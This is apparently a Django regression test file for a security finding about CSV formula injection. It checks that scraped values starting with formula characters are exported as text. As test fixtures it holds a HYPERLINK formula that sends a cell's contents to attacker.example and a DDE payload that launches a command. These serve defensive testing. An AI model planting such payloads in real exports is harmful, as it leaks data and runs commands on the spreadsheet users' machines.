"""Finding 5: scraped titles and names reached the CSV exports verbatim, so a cell starting with
`=` ran as a formula in the spreadsheet that opened it."""

import csv
import io
import pathlib

from django.db import connection
from hypothesis import given
from hypothesis import strategies as st

from kernel import csv_cell, csv_lines
from kernel.csv_cells import FORMULA_STARTS

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
PROJECT = pathlib.Path(__file__).resolve().parents[2]


def _read(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode())))


def test_the_unmapped_titles_export_writes_a_formula_as_text(client, ops, demo):
    with connection.cursor() as cursor:
        for _ in range(5):  # frequent enough to be listed first
            cursor.execute("INSERT INTO extracted.person_experience (linkedin_url, title) VALUES (%s, %s)",
                           ["linkedin.com/in/mallory", FORMULA])
    rows = _read(client.get("/admin/cleanup/gapsnapshot/unmapped-titles/?format=csv").content)
    assert ["'" + FORMULA] == [row[0] for row in rows if FORMULA in row[0]]


def test_the_hidden_leads_export_writes_a_formula_as_text(client, ops, demo):
    with connection.cursor() as cursor:
        cursor.execute("INSERT INTO core.companies (id, domain, company_name, company_country)"
                       " SELECT max(id) + 1, %s, %s, NULL FROM core.companies RETURNING id",
                       ["mallory.example", "+cmd|' /C calc'!A0"])
        (company_id,) = cursor.fetchone()
    response = client.get("/admin/dashboard/hidden/company.csv?missing=company_country")
    rows = _read(b"".join(response.streaming_content))
    (row,) = [row for row in rows if row[0] == str(company_id)]
    assert row[2] == "'+cmd|' /C calc'!A0"


@given(st.text())
def test_no_cell_is_written_as_a_formula_and_nothing_else_changes(text):
    cell = csv_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell == text or cell == "'" + text
    (line,) = csv_lines([[text, -5, 2.5]])
    assert next(csv.reader(io.StringIO(line)))[1:] == ["-5", "2.5"]  # numbers stay numbers


def test_every_csv_export_goes_through_the_one_writer():
    writers = [str(path.relative_to(PROJECT)) for app in ("cleanup", "dashboard", "planning", "registry", "runs",
                                                          "warehouse", "enrichhub")
               for path in (PROJECT / app).rglob("*.py") if "csv.writer(" in path.read_text()]
    assert writers == []
